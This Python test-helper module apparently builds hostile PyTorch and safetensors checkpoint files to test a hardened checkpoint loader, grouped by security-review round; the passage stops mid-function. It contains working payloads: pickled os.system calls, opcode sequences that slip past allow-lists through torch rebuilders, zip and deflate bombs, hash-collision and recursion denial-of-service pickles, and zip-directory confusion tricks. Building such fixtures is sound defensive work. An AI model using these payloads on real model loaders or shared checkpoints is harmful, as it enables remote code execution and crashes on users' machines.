"""Hostile checkpoint files, each built in a few lines from names torch's or the package's loader
allows: how the checkpoint tests write what an attacker would."""
import collections
import io
import os
import struct
import subprocess
import sys
import zipfile

import numpy as np
import torch

RECONSTRUCT = np._core.multiarray._reconstruct
SCALAR = np._core.multiarray.scalar


class Reduce:
    """Pickles as whatever ``__reduce__`` value it is given."""

    def __init__(self, value):
        self.value = value

    def __reduce__(self):
        return self.value


def runs(command: str) -> Reduce:
    """A pickled call of ``os.system(command)``."""
    return Reduce((os.system, (command,)))


def forged_array(dtype, raw: bytes, shape=(2,)) -> Reduce:
    return Reduce((RECONSTRUCT, (np.ndarray, (0,), b'b'), (1, shape, dtype, False, raw)))


def forged_scalar(dtype, raw: bytes) -> Reduce:
    return Reduce((SCALAR, (dtype, raw)))


def forged_dtype(code, state) -> Reduce:
    return Reduce((np.dtype, (code, False, True), state))


# ---------------------------------------------------------------------------- pickle opcodes

def text(value: str) -> bytes:
    return b'X' + struct.pack('<I', len(value.encode())) + value.encode()  # BINUNICODE


def glob(module: str, name: str) -> bytes:
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def long1(value: int) -> bytes:
    raw = value.to_bytes((value.bit_length() + 8) // 8, 'little', signed=True)
    return b'\x8a' + bytes([len(raw)]) + raw


PROTO, STOP, EMPTY_DICT, EMPTY_LIST, MARK = b'\x80\x02', b'.', b'}', b']', b'('
SETITEM, APPENDS, TUPLE1, TUPLE2, TUPLE3, REDUCE, BUILD = b's', b'e', b'\x85', b'\x86', b'\x87', b'R', b'b'


def build_on(target: bytes, attribute: str, value: bytes) -> bytes:
    """``target.__dict__.update({attribute: value})`` by the BUILD opcode, then ``{'x': target}``."""
    return (PROTO + EMPTY_DICT + text('x') + target + EMPTY_DICT + text(attribute) + value + SETITEM + BUILD
            + SETITEM + STOP)


def getattr_os_system(command: str) -> bytes:
    """``getattr(__import__('os'), 'system')(command)``."""
    return (PROTO + glob('__builtin__', 'getattr') + glob('__builtin__', '__import__') + text('os') + TUPLE1 + REDUCE
            + text('system') + TUPLE2 + REDUCE + text(command) + TUPLE1 + REDUCE + STOP)


def getattr_history_buffer(name: str) -> bytes:
    """``getattr(HistoryBuffer, name)``: allowed for the statistics names only."""
    return PROTO + glob('__builtin__', 'getattr') + glob('mmengine.logging.history_buffer', 'HistoryBuffer') + \
        text(name) + TUPLE2 + REDUCE + STOP


def bytearray_bomb(size: int = 10 ** 9) -> bytes:
    """``{'a': bytearray(size), 'b': bytearray(size)}``: a few hundred bytes asking for gigabytes."""
    call = glob('builtins', 'bytearray') + b'J' + struct.pack('<i', size) + TUPLE1 + REDUCE
    return PROTO + EMPTY_DICT + text('a') + call + SETITEM + text('b') + call + SETITEM + STOP


def colliding_ints(count: int):
    """Distinct ints of one hash (hash(k * (2**61 - 1)) == 0): quadratic to put in a set or dict."""
    return [k * (2 ** 61 - 1) for k in range(1, count + 1)]


def colliding_set(count: int = 40000) -> bytes:
    """``{'s': set([...colliding ints...])}``, about 12 bytes an element."""
    items = b''.join(long1(i) for i in colliding_ints(count))
    return (PROTO + EMPTY_DICT + text('s') + glob('builtins', 'set') + EMPTY_LIST + MARK + items + APPENDS + TUPLE1
            + REDUCE + SETITEM + STOP)


def colliding_dict(count: int = 40000) -> bytes:
    """``{colliding int: 0, ...}``."""
    items = b''.join(long1(i) + b'K\x00' for i in colliding_ints(count))
    return PROTO + EMPTY_DICT + MARK + items + b'u' + STOP  # SETITEMS


def with_pickle(path, payload: bytes, records=None):
    """A torch zip checkpoint whose data.pkl is ``payload`` (for pickles torch.save cannot write), beside
    the storage records torch.save writes for ``records``."""
    torch.save({'x': 1} if records is None else records, str(path))
    with zipfile.ZipFile(path) as source:
        entries = {info.filename: source.read(info.filename) for info in source.infolist()}
    with zipfile.ZipFile(path, 'w') as target:
        for name, data in entries.items():
            target.writestr(name, payload if name.endswith('data.pkl') else data)
    return path


def deflate_bomb(path, inflated_mib: int = 256):
    """A torch zip checkpoint with one more entry: ``inflated_mib`` MiB of zeros, deflated."""
    torch.save({'x': 1}, str(path))
    with zipfile.ZipFile(path, 'a', compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        prefix = archive.namelist()[0].split('/')[0]
        with archive.open(f'{prefix}/data/0', 'w', force_zip64=True) as entry:
            chunk = bytes(1 << 20)
            for _ in range(inflated_mib):
                entry.write(chunk)
    return path


def sparse_out_of_range(path, layout: str = 'coo'):
    """A sparse tensor whose indices point far outside it (to_dense would write into the heap)."""
    if layout == 'coo':
        tensor = torch.sparse_coo_tensor(torch.tensor([[0, 10 ** 7], [0, 5]]), torch.tensor([1., 2.]), (3, 3),
                                         check_invariants=False)
    else:
        tensor = torch.sparse_csr_tensor(torch.tensor([0, 1, 2]), torch.tensor([0, 10 ** 7]), torch.tensor([1., 2.]),
                                         (2, 2), check_invariants=False)
    torch.save({'w': tensor}, str(path))
    return path


def sparse_of_stride_zero(path, nnz: int = 10 ** 8):
    """A 2 kB file holding a sparse tensor of ``nnz`` entries: its indices and values are stride-0
    views of one element (coalescing it would allocate gigabytes)."""
    indices, values = torch.zeros(2, 1, dtype=torch.long).expand(2, nnz), torch.ones(1).expand(nnz)
    torch.save({'w': torch.sparse_coo_tensor(indices, values, (3, 3), check_invariants=False)}, str(path))
    return path


def with_state(tensor: torch.Tensor, state: dict) -> Reduce:
    """A tensor or Parameter rebuilt with ``state`` set on it by torch's rebuilder (``setattr``)."""
    if isinstance(tensor, torch.nn.Parameter):
        return Reduce((torch._utils._rebuild_parameter_with_state,
                       (tensor.data, tensor.requires_grad, collections.OrderedDict(), state)))
    func, args = tensor.__reduce_ex__(2)
    return Reduce((torch._tensor._rebuild_from_type_v2, (func, torch.Tensor, args, state)))


def quantized_without_quantizer() -> Reduce:
    """A plain tensor rebuilt over a quint8 storage: quantized, with no scale or zero point (every
    use of it then fails inside torch)."""
    storage = torch.TypedStorage(wrap_storage=torch.UntypedStorage(64), dtype=torch.quint8, _internal=True)
    return Reduce((torch._utils._rebuild_tensor_v2, (storage, 0, (64,), (1,), False, collections.OrderedDict())))


def tensor_set_by_build(size, stride) -> Reduce:
    """A tensor rebuilt over a 4-element storage, then given the BUILD state ``(storage, 0, size,
    stride)``: torch's unpickler calls ``set_`` with it (a bigger size resizes the storage, if it can)."""
    storage = torch.TypedStorage(wrap_storage=torch.ones(4).untyped_storage(), dtype=torch.float32, _internal=True)
    return Reduce((torch._utils._rebuild_tensor_v2, (storage, 0, (4,), (1,), False, collections.OrderedDict()),
                   (storage, 0, size, stride)))


def bools_of_bytes(*values: int) -> torch.Tensor:
    """A bool tensor over the given bytes (only 0 and 1 are bools; torch.save writes the bytes as they are)."""
    return torch.tensor(values, dtype=torch.uint8).view(torch.bool)


def state_dict_with_attribute(name: str, value) -> collections.OrderedDict:
    """A state_dict (an OrderedDict, as modules return) with one more attribute beside ``_metadata``."""
    state_dict = torch.nn.Linear(2, 2).state_dict()
    setattr(state_dict, name, value)
    return state_dict


LEGACY_MODULE = '''import torch
class Victim(torch.nn.Linear):
    dump_patches = True
'''


def legacy_module_checkpoint(folder):
    """A legacy (non-zip) file with a ``('module', cls, source_file, source)`` persistent id whose
    source differs from the module's now: torch's legacy loader writes ``Victim.patch`` in the
    working directory for it. Returns the checkpoint's path."""
    (folder / 'victim.py').write_text(LEGACY_MODULE)
    path = folder / 'legacy.pth'
    subprocess.run([sys.executable, '-c', 'import torch, victim; torch.save(victim.Victim, "legacy.pth", '
                    '_use_new_zipfile_serialization=False)'], cwd=folder, check=True,
                   env=dict(os.environ, PYTHONPATH=str(folder), GHOST_BACKBONES_STARTUP='0'))
    (folder / 'victim.py').write_text(LEGACY_MODULE + '    changed = True\n')
    return path


def zip_bytes(obj) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


# ---------------------------------------------------------------------------- found by review

EMPTY_TUPLE, NEWOBJ, APPEND, TUPLE, NONE = b')', b'\x81', b'a', b't', b'N'


def around_rebuild_from_type(call: bytes) -> bytes:
    """``{'s': _rebuild_from_type_v2(set, set, (ARG,), None)}`` with ``call`` = ``ARG`` pickled: the
    checks on direct calls of ``set`` skipped by calling it through torch's subclass rebuilder."""
    return (PROTO + EMPTY_DICT + text('s') + glob('torch._tensor', '_rebuild_from_type_v2') + MARK
            + glob('builtins', 'set') + glob('builtins', 'set') + call + TUPLE1 + NONE + TUPLE + REDUCE + SETITEM + STOP)


def colliding_set_via_rebuild(count: int = 40000) -> bytes:
    items = b''.join(long1(i) for i in colliding_ints(count))
    return around_rebuild_from_type(EMPTY_LIST + MARK + items + APPENDS)


def deep_tuple_in_a_set(depth: int = 300000) -> bytes:
    """Hashing a 300,000-deep tuple overflows the C stack (SIGSEGV)."""
    return around_rebuild_from_type(EMPTY_LIST + b'K\x01' + TUPLE1 * depth + APPEND)


def reduce_on_a_string(length: int = 40000) -> bytes:
    """REDUCE on a string: torch's error message about it is searched by a quadratic regex."""
    return PROTO + EMPTY_DICT + text('x') + text('A' * length) + EMPTY_TUPLE + REDUCE + SETITEM + STOP


def legacy_tensor_constructor(numel: int = 2_000_000_000) -> bytes:
    """``torch.FloatTensor(numel)``: an 8 GB tensor (of uninitialised memory) from a 1 KB file."""
    return (PROTO + EMPTY_DICT + text('state_dict') + EMPTY_DICT + text('w') + glob('torch', 'FloatTensor')
            + long1(numel) + TUPLE1 + REDUCE + SETITEM + SETITEM + STOP)


def case_twin_archive(path, payload: bytes):
    """A torch zip with a benign ``<name>/data.pkl`` and ``payload`` as ``<name>/DATA.PKL``, which
    torch's reader (case-insensitive) may pick instead of the one spelt exactly."""
    with_pickle(path, PROTO + EMPTY_DICT + STOP)
    with zipfile.ZipFile(path) as source:
        entries = [(info.filename, source.read(info.filename)) for info in source.infolist()]
    prefix = entries[0][0].split('/')[0]
    with zipfile.ZipFile(path, 'w') as target:
        target.writestr(f'{prefix}/DATA.PKL', payload)
        for name, data in entries:
            target.writestr(name, data)
    return path


def ndarray_escaping_its_placeholder(path):
    """NEWOBJ ``numpy.ndarray`` with BUILD state ``{'array': huge}, {'__class__': PendingArray}``:
    a stride-0 view of 10^10 floats passed off as a rebuilt array."""
    import copyreg
    from ghost_backbones.checkpoint_rebuild import PendingArray

    class Escaped:
        __class__ = property(lambda self: np.ndarray)  # so that pickle writes NEWOBJ numpy.ndarray

        def __reduce__(self):
            return copyreg.__newobj__, (np.ndarray,), ({'array': torch.ones(1).expand(10 ** 5, 10 ** 5)},
                                                        {'__class__': PendingArray})

    torch.save({'state_dict': {'w': Escaped()}}, str(path))
    return path


def expanded_tensor(path, quantized: bool = False):
    """A (10^5, 10^5) stride-0 view of one element: 40 GB at the first copy."""
    one = torch.ones(1)
    if quantized:
        one = torch.quantize_per_tensor(one, 0.1, 0, torch.qint8)
    torch.save({'state_dict': {'w': one.as_strided((10 ** 5, 10 ** 5), (0, 0))}}, str(path))
    return path


# ---------------------------------------------------------------------------- found by the third review

BINPUT0, BINGET0, NEWFALSE = b'q\x00', b'h\x00', b'\x89'


def parameter_by_newobj(numel: int = 10 ** 9) -> bytes:
    """``Parameter(None, False)`` made by NEWOBJ (its empty storage is resizable), then BUILD with
    ``(itself, 0, (numel,), (1,))``: torch calls ``set_``, which grows the storage to ``numel``
    floats of uninitialised memory."""
    param = glob('torch.nn.parameter', 'Parameter') + NONE + NEWFALSE + TUPLE2 + NEWOBJ + BINPUT0
    state = MARK + BINGET0 + b'K\x00' + long1(numel) + TUPLE1 + b'K\x01' + TUPLE1 + TUPLE
    return (PROTO + EMPTY_DICT + text('state_dict') + EMPTY_DICT + text('w') + param + state + BUILD + SETITEM
            + SETITEM + STOP)


def items_shadowed(value) -> Reduce:
    """An OrderedDict holding ``{'state_dict': value}`` given the attribute ``items = bytes`` by
    BUILD: a walk calling ``obj.items()`` sees nothing in it."""
    return Reduce((collections.OrderedDict, (), {'items': bytes}, None, iter([('state_dict', value)])))


def list_arguments(count: int = 40000) -> bytes:
    """``Counter(*[[colliding ints]])``: REDUCE with a list for its argument tuple."""
    items = b''.join(long1(i) for i in colliding_ints(count))
    return (PROTO + EMPTY_DICT + text('x') + glob('collections', 'Counter') + EMPTY_LIST + EMPTY_LIST + MARK + items
            + APPENDS + APPEND + REDUCE + SETITEM + STOP)


def doubling_tuples(depth: int = 94) -> bytes:
    """``T = (0, 0)``, then ``T = (T, T)`` ``depth`` times through the memo: a 1 kB file that a
    deepcopy (which does not memoise tuples of atoms) walks 2**depth times."""
    body = b'K\x00K\x00' + TUPLE2 + BINPUT0 + (BINGET0 + TUPLE2 + BINPUT0) * depth
    return PROTO + EMPTY_DICT + text('meta') + body + SETITEM + STOP


def list_holding_itself() -> bytes:
    return PROTO + EMPTY_DICT + text('x') + EMPTY_LIST + BINPUT0 + BINGET0 + APPEND + SETITEM + STOP


def history_buffers(count: int) -> bytes:
    """``[HistoryBuffer(), ...]``, 4 bytes each."""
    return (PROTO + glob('mmengine.logging.history_buffer', 'HistoryBuffer') + BINPUT0 + EMPTY_LIST + MARK
            + (BINGET0 + EMPTY_TUPLE + REDUCE) * count + APPENDS + STOP)


def with_metadata(tensor: torch.Tensor, metadata: dict) -> Reduce:
    """A tensor rebuilt with torch's backward-compatible metadata (e.g. ``{'neg': True}``)."""
    storage = torch.TypedStorage(wrap_storage=tensor.untyped_storage(), dtype=tensor.dtype, _internal=True)
    return Reduce((torch._utils._rebuild_tensor_v2, (storage, 0, tuple(tensor.shape), tensor.stride(), False,
                                                     collections.OrderedDict(), metadata)))


def bytes_as_dtype(raw: torch.Tensor, dtype: torch.dtype) -> Reduce:
    """A uint8 tensor's bytes rebuilt as ``dtype`` (``_rebuild_tensor_v3``, as torch writes dtypes
    that have no storage type of their own)."""
    storage = torch.TypedStorage(wrap_storage=raw.untyped_storage(), dtype=torch.uint8, _internal=True)
    return Reduce((torch._utils._rebuild_tensor_v3, (storage, 0, tuple(raw.shape), raw.stride(), False,
                                                     collections.OrderedDict(), dtype)))


# ---------------------------------------------------------------------------- found by the fourth review

def two_central_directories(path, inflated_mib: int = 256):
    """A checkpoint whose ``data/0`` (``inflated_mib`` MiB of zeros) is deflated, with two central
    directories: the end record declares the first (entry deflated: what torch's reader inflates),
    zipfile finds the second by its position (entry stored, of its compressed size)."""
    buffer = io.BytesIO()
    torch.save({'w': torch.zeros(inflated_mib << 18)}, buffer)
    with zipfile.ZipFile(buffer) as source:
        entries = [(info.filename, source.read(info.filename)) for info in source.infolist()]
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as target:
        for name, data in entries:
            target.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED if name.endswith('data/0') else None)
    raw = out.getvalue()
    _, _, _, count, total, size, offset, _ = struct.unpack('<IHHHHIIH', raw[-22:])
    first, second, position = raw[offset:offset + size], bytearray(), 0
    layout = '<IHHHHHHIIIHHHHHII'
    while position < len(first):
        fields = list(struct.unpack(layout, first[position:position + 46]))
        name_length, extra_length, comment_length = fields[10:13]
        end = position + 46 + name_length + extra_length + comment_length
        if first[position + 46:position + 46 + name_length].endswith(b'data/0'):
            fields[4], fields[9] = zipfile.ZIP_STORED, fields[8]  # method, uncompressed size = compressed size
        second += struct.pack(layout, *fields) + first[position + 46:end]
        position = end
    end_record = struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, count, total, size, offset, 0)
    with open(path, 'wb') as f:
        f.write(raw[:offset] + first + bytes(second) + end_record)
    return path


def arrays_sharing_bytes(count: int = 1000, nbytes: int = 1 << 18) -> list:
    """``count`` numpy arrays of ``nbytes`` each, one pickled byte string shared through the memo."""
    raw = bytes(nbytes)
    return [forged_array(np.dtype('u1'), raw, shape=(nbytes,)) for _ in range(count)]


def history_buffers_sharing_a_list(count: int = 20, values: int = 100_000) -> dict:
    """A MessageHub state of ``count`` HistoryBuffers built from one pickled list of ``values`` numbers."""
    from mmengine.logging import HistoryBuffer
    shared = [1] * values
    return {f'loss{i}': Reduce((HistoryBuffer, (shared, shared, values))) for i in range(count)}


def function_as_value() -> bytes:
    return PROTO + EMPTY_DICT + text('meta') + glob('_codecs', 'encode') + SETITEM + STOP


def safetensors_of_empty_tensors(path, count: int = 200_000):
    """A safetensors file whose JSON header lists ``count`` empty tensors (12 MB of header)."""
    import json
    header = json.dumps({f't{i}': {'dtype': 'F32', 'shape': [0], 'data_offsets': [0, 0]}
                         for i in range(count)}).encode()
    with open(path, 'wb') as f:
        f.write(struct.pack('<Q', len(header)) + header)
    return path


# ---------------------------------------------------------------------------- found by the fifth review

def zip64_second_directory(path, inflated_mib: int = 256):
    """Every entry stored in directory A (zipfile reads the zip64 end record just before the
    locator), a deflated ``data/0`` of ``inflated_mib`` MiB in directory B (the locator's offset,
    which torch's reader follows)."""
    import zlib
    buffer = io.BytesIO()
    torch.save({'w': torch.zeros(4)}, buffer)
    with zipfile.ZipFile(buffer) as source:
        entries = [(info.filename, source.read(info.filename)) for info in source.infolist()]

    def local(name, data, method, size, crc):
        return struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, method, 0, 0, crc, len(data), size, len(name), 0) \
            + name.encode() + data

    def central(name, method, compressed, size, crc, offset):
        return struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, method, 0, 0, crc, compressed, size,
                           len(name), 0, 0, 0, 0, 0, offset) + name.encode()

    def zip64_end(count, size, offset):
        return struct.pack('<IQHHIIQQQQ', 0x06064b50, 44, 45, 45, 0, 0, count, count, size, offset)

    out, first, second = bytearray(), b'', b''
    for name, data in entries:
        offset, crc = len(out), zlib.crc32(data)
        out += local(name, data, 0, len(data), crc)
        first += central(name, 0, len(data), len(data), crc, offset)
        if name.endswith('data/0'):
            zeros = bytes(inflated_mib << 20)
            deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = deflater.compress(zeros) + deflater.flush()
            offset = len(out)
            out += local(name, packed, 8, len(zeros), zlib.crc32(zeros))
            second += central(name, 8, len(packed), len(zeros), zlib.crc32(zeros), offset)
        else:
            second += central(name, 0, len(data), len(data), crc, offset)
    second_offset = len(out)
    out += second
    second_end = len(out)
    out += zip64_end(len(entries), len(second), second_offset)
    first_offset = len(out)
    out += first + zip64_end(len(entries), len(first), first_offset)
    out += struct.pack('<IIQI', 0x07064b50, 0, second_end, 1)  # the locator, pointing at B's record
    out += struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    with open(path, 'wb') as f:
        f.write(bytes(out))
    return path


def lists_nested_while_empty(depth: int = 450) -> bytes:
    """Lists appended to their parent while still empty, then filled: the scan sees depth 2 each time."""
    payload = PROTO + EMPTY_LIST + b'r' + struct.pack('<I', 0)
    for level in range(1, depth):
        payload += b'j' + struct.pack('<I', level - 1) + EMPTY_LIST + b'r' + struct.pack('<I', level) + APPEND
    return payload + b'j' + struct.pack('<I', 0) + STOP


# ---------------------------------------------------------------------------- found by the sixth review

def one_float_storage() -> torch.TypedStorage:
    return torch.TypedStorage(wrap_storage=torch.ones(1).untyped_storage(), dtype=torch.float32, _internal=True)


def persistent_id(key: str = '0', numel: int = 1, storage_type: str = 'FloatStorage', location: str = 'cpu',
                  key_opcodes: bytes = None) -> bytes:
    """A storage as torch.save names it: ``('storage', torch.<storage_type>, key, location, numel)`` + BINPERSID."""
    key_opcodes = text(key) if key_opcodes is None else key_opcodes
    return (MARK + text('storage') + glob('torch', storage_type) + key_opcodes + text(location) + long1(numel) + TUPLE
            + b'Q')


def rebuild_arguments(storage: bytes, size: int) -> bytes:
    """``(storage, 0, (size,), (1,), False, OrderedDict())``: a 1-d tensor's arguments to ``_rebuild_tensor_v2``."""
    return (MARK + storage + b'K\x00' + long1(size) + TUPLE1 + b'K\x01' + TUPLE1 + NEWFALSE
            + glob('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE + TUPLE)


def rebuilt_tensor(storage: bytes, size: int) -> bytes:
    return glob('torch._utils', '_rebuild_tensor_v2') + rebuild_arguments(storage, size) + REDUCE


def tensor_dict_swapped(depth: int = 94) -> bytes:
    """A tensor given ``Counter({'__dict__': od})`` as its state by ``_rebuild_from_type_v2``: its
    ``__dict__`` becomes an empty OrderedDict whose own attribute holds tuples doubling ``depth`` times
    (``vars(tensor)`` shows nothing; a deepcopy, as MessageHub.load_state_dict makes, never ends). The
    storage ``0`` is the one :func:`with_pickle` writes for ``{'x': torch.ones(2)}``."""
    doubling = b'K\x00K\x00' + TUPLE2 + BINPUT0 + (BINGET0 + TUPLE2 + BINPUT0) * depth
    od = glob('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE + EMPTY_DICT + text('bomb') + doubling + SETITEM + BUILD
    counter = glob('collections', 'Counter') + EMPTY_DICT + text('__dict__') + od + SETITEM + TUPLE1 + REDUCE
    tensor = (glob('torch._tensor', '_rebuild_from_type_v2') + MARK + glob('torch._utils', '_rebuild_tensor_v2')
              + glob('torch', 'Tensor') + rebuild_arguments(persistent_id(numel=2), 2) + counter + TUPLE + REDUCE)
    return PROTO + EMPTY_DICT + text('message_hub') + EMPTY_DICT + text('x') + tensor + SETITEM + SETITEM + STOP


def parameter_state_inside_rebuild() -> Reduce:
    """``_rebuild_from_type_v2(_rebuild_parameter_with_state, Parameter, (data, False, hooks, STATE), None)``:
    the state in the inner argument tuple, set on the Parameter by ``setattr``."""
    hidden = Reduce((collections.OrderedDict, (), {'hidden': torch.ones(1).expand(10 ** 9)}))
    inner = (torch.ones(2), False, collections.OrderedDict(), {'__dict__': hidden})
    return Reduce((torch._tensor._rebuild_from_type_v2,
                   (torch._utils._rebuild_parameter_with_state, torch.nn.Parameter, inner, None)))


def storage_ids(keys, numel: int, location: str = 'cpu') -> bytes:
    """A list of bare storages, one persistent id per key, ``numel`` floats each."""
    ids = b''.join(persistent_id(key, numel, location=location) for key in keys)
    return PROTO + EMPTY_DICT + text('meta') + EMPTY_LIST + MARK + ids + APPENDS + SETITEM + STOP


def records_sharing_bytes(path, count: int = 1000, nbytes: int = 1 << 20):
    """One ``nbytes`` record ``data/0`` listed ``count`` times in the zip directory (``data/1``, ... at
    its local header): torch's reader loads each as its own storage, a 1 MB file as a gigabyte."""
    import zlib
    payload = storage_ids([str(k) for k in range(count)], nbytes // 4)
    with_pickle(path, payload, {'x': torch.zeros(nbytes // 4)})
    with zipfile.ZipFile(path) as source:
        entries = [(info.filename, source.read(info.filename)) for info in source.infolist()]
    out, directory, offsets = bytearray(), bytearray(), {}
    for name, data in entries:
        offsets[name] = len(out)
        out += struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data),
                           len(name), 0) + name.encode() + data
    prefix = entries[0][0].split('/')[0]
    listed = entries + [(f'{prefix}/data/{k}', dict(entries)[f'{prefix}/data/0']) for k in range(1, count)]
    for name, data in listed:
        offset = offsets.get(name, offsets[f'{prefix}/data/0'])
        directory += struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 0, 0, 0, zlib.crc32(data), len(data),
                                 len(data), len(name), 0, 0, 0, 0, 0, offset) + name.encode()
    end = struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, len(listed), len(listed), len(directory), len(out), 0)
    with open(path, 'wb') as f:
        f.write(bytes(out + directory + end))
    return path


def storage_keys_differing_in_case(path, count: int = 1000, nbytes: int = 1 << 20):
    """One ordinary ``nbytes`` record ``data/abcdefghijkl``, named by ``count`` keys that differ only in
    case: torch caches storages by key but finds records case-insensitively (a copy per key)."""
    key = 'abcdefghijkl'
    keys = [''.join(c.upper() if bits >> i & 1 else c for i, c in enumerate(key)) for bits in range(count)]
    with_pickle(path, storage_ids(keys, nbytes // 4), {'x': torch.zeros(nbytes // 4)})
    with zipfile.ZipFile(path) as source:
        entries = [(info.filename, source.read(info.filename)) for info in source.infolist()]
    with zipfile.ZipFile(path, 'w') as target:
        for name, data in entries:
            target.writestr(name.replace('data/0', f'data/{key}') if name.endswith('data/0') else name, data)
    return path


def view_beyond_storage(numel: int = 10 ** 9) -> Reduce:
    """``_rebuild_tensor_v2`` over one float with size ``(numel,)``: ``set_`` grows a resizable storage
    (as every storage moved to a GPU by ``map_location`` is) to ``numel`` floats before any walk."""
    return Reduce((torch._utils._rebuild_tensor_v2,
                   (one_float_storage(), 0, (numel,), (1,), False, collections.OrderedDict())))


def build_pairs_on_an_ordered_dict(count: int = 20000) -> bytes:
    """BUILD on an OrderedDict with a list of ``(colliding int, 0)`` pairs: torch's unpickler calls
    ``__dict__.update(pairs)``, quadratic in the pairs (keys the checks of SETITEM never see)."""
    pairs = b''.join(long1(i) + b'K\x00' + TUPLE2 for i in colliding_ints(count))
    od = glob('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE + EMPTY_LIST + MARK + pairs + APPENDS + BUILD
    return PROTO + EMPTY_DICT + text('state_dict') + od + SETITEM + STOP


def build_on_a_storage() -> bytes:
    """BUILD ``{'dtype': torch.complex128}`` on a 4-byte float storage: a 1-element view of it then
    reads 16 bytes (and set_ grows a resizable one)."""
    storage = persistent_id() + EMPTY_DICT + text('dtype') + glob('torch', 'complex128') + SETITEM + BUILD
    return PROTO + EMPTY_DICT + text('w') + rebuilt_tensor(storage, 1) + SETITEM + STOP


def int_persistent_id() -> bytes:
    return PROTO + EMPTY_DICT + text('w') + b'K\x00' + b'Q' + SETITEM + STOP


def complex_of_a_huge_int() -> bytes:
    return PROTO + EMPTY_DICT + text('x') + glob('builtins', 'complex') + long1(2 ** 2000) + TUPLE1 + REDUCE \
        + SETITEM + STOP


def tensor_of_many_dims(dims: int = 100_000) -> Reduce:
    """A one-element tensor of ``dims`` dimensions (``tolist`` recurses once per dimension: SIGSEGV)."""
    return Reduce((torch._utils._rebuild_tensor_v2,
                   (one_float_storage(), 0, (1,) * dims, (1,) * dims, False, collections.OrderedDict())))


def safetensors_file(path, header: dict, data: bytes = b''):
    """A safetensors file of the given JSON header and data (for what safetensors itself accepts)."""
    import json
    raw = json.dumps(header).encode()
    with open(path, 'wb') as f:
        f.write(struct.pack('<Q', len(raw)) + raw + data)
    return path


def storage_named_again_larger(numel: int = 10 ** 9) -> bytes:
    """Key ``0`` named with 1 float, then again with ``numel``: torch reuses the first (4-byte) storage,
    and a view of ``numel`` floats over the second name would grow it with ``set_``."""
    return (PROTO + EMPTY_DICT + text('state_dict') + EMPTY_DICT + text('a') + rebuilt_tensor(persistent_id(), 1)
            + SETITEM + text('b') + rebuilt_tensor(persistent_id(numel=numel), numel) + SETITEM + SETITEM + STOP)


# ---------------------------------------------------------------------------- found by the seventh review

def meta_storage_references(path, count: int = 1000, nbytes: int = 1 << 16):
    """``count`` persistent ids of one ``nbytes`` record at the location ``'meta'``: torch caches no meta
    storage, so each reads the record again (4 MB x 500 references: 2 GB during the load)."""
    return with_pickle(path, storage_ids(['0'] * count, nbytes // 4, location='meta'), {'x': torch.zeros(nbytes // 4)})


def key_decoded_as_torch_decodes(path, numel: int = 1 << 18):
    """The key ``'\u00e9'`` as BINUNICODE (a 16-byte complex128 storage), then as SHORT_BINSTRING (UTF-8
    bytes, which torch decodes as UTF-8 and pickletools as latin-1: another key for a check that reads them
    so) naming ``numel`` bytes: torch reuses the 16-byte storage, a view of ``numel`` complex numbers grows it."""
    key = '\u00e9'
    first = persistent_id(key, 1, 'ComplexDoubleStorage')
    raw = key.encode()
    second = persistent_id(numel=numel, storage_type='ByteStorage', key_opcodes=b'U' + bytes([len(raw)]) + raw)
    payload = (PROTO + EMPTY_DICT + text('a') + rebuilt_tensor(first, 1) + SETITEM + text('b')
               + rebuilt_tensor(second, numel) + SETITEM + text('pad') + text('p' * numel) + SETITEM
               + STOP)  # (the file as large as the bytes named)
    with_pickle(path, payload, {'x': torch.zeros(1, dtype=torch.complex128)})
    with zipfile.ZipFile(path) as source:
        entries = [(info.filename, source.read(info.filename)) for info in source.infolist()]
    with zipfile.ZipFile(path, 'w') as target:
        for name, data in entries:
            target.writestr(name[:-1] + key if name.endswith('data/0') else name, data)
    return path


def calls_of_memoized_arguments(count: int = 100_000) -> bytes:
    """One tensor rebuild's arguments memoized and called again ``count`` times (3 bytes per tensor)."""
    args = rebuild_arguments(persistent_id(), 1) + b'q\x01'
    rebuild = glob('torch._utils', '_rebuild_tensor_v2') + BINPUT0
    calls = rebuild + args + REDUCE + (BINGET0 + b'h\x01' + REDUCE) * count
    return PROTO + EMPTY_DICT + text('w') + EMPTY_LIST + MARK + calls + APPENDS + SETITEM + STOP


def persistent_id_referenced_again(count: int = 100_000) -> bytes:
    """One (empty) storage's persistent id memoized and given again ``count`` times: torch caches no empty
    storage, so each reference reads its record again."""
    pid = persistent_id(numel=0)[:-1] + BINPUT0  # (the id memoized before BINPERSID)
    return PROTO + EMPTY_DICT + text('meta') + EMPTY_LIST + MARK + pid + b'Q' + (BINGET0 + b'Q') * count + APPENDS \
        + SETITEM + STOP


def tensor_rebuild_of_two_arguments() -> bytes:
    """``_rebuild_tensor_v2(storage, 0)``: no size or strides for the view check to read."""
    return (PROTO + EMPTY_DICT + text('w') + glob('torch._utils', '_rebuild_tensor_v2') + persistent_id() + b'K\x00'
            + TUPLE2 + REDUCE + SETITEM + STOP)


# ---------------------------------------------------------------------------- found by the eighth review

SETITEMS, BINPUT1, BINGET1 = b'u', b'q\x01', b'h\x01'


def kept_beside(item: bytes, items: bytes) -> bytes:
    """``{'keep': item, 'meta': [items]}``: a memoized item, then what reuses it."""
    return PROTO + EMPTY_DICT + text('keep') + item + SETITEM + text('meta') + EMPTY_LIST + MARK + items + APPENDS \
        + SETITEM + STOP


def build_state_reused(keys: int = 20_000, count: int = 400) -> bytes:
